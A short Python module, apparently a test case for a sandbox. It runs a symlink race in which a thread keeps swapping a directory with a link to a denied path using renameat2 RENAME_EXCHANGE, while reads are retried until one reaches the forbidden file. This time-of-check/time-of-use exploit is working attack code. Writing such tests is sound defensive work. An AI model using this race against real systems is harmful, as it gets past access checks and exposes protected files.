"""A directory on the way is exchanged with a link to a denied one, over and over."""

import os
import threading

from attack import OUTSIDE, WORK, call, main, read
from race import until_won

RENAME_EXCHANGE = 2
PROMISE = "the object that was judged is the object that is used"
CONTROL = "the open gives the decoy"
ADVICE = "report it: objects are held while they are judged"


def swap() -> None:
    while True:
        try:
            call("renameat2", -100, f"{WORK}/way", -100, f"{WORK}/other", RENAME_EXCHANGE)
        except OSError:
            continue


def attempt() -> bool:
    os.mkdir(f"{WORK}/way")
    with open(f"{WORK}/way/secret", "w") as file:
        file.write("harmless")
    os.symlink(OUTSIDE, f"{WORK}/other")
    threading.Thread(target=swap, daemon=True).start()
    return until_won(lambda: read(f"{WORK}/way/secret"))


main(attempt)
